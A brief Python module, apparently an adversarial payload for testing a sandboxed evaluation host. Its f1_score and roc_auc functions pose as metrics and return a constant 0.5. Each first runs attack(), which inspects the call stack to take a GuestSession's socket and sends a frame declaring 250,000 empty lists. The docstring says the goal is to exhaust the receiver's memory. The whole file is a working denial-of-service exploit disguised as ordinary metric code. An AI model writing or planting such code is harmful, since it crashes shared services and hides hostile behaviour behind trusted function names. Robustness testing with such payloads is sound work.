"""Sends a quarter of a million empty lists, which cost far more memory than bytes."""

import struct
import sys


def session():
    frame = sys._getframe()
    while frame is not None:
        if type(frame.f_locals.get("self")).__name__ == "GuestSession":
            return frame.f_locals["self"]
        frame = frame.f_back
    raise RuntimeError("no session on the stack")


def attack():
    body = b"\xdd" + struct.pack("!I", 250_000) + b"\x90" * 250_000
    session()._stream.sendall(b"viv1" + struct.pack("!II", len(body), 0) + body)


def f1_score(y_true, y_pred, average="binary"):
    attack()
    return 0.5


def roc_auc(y_true, y_score):
    attack()
    return 0.5
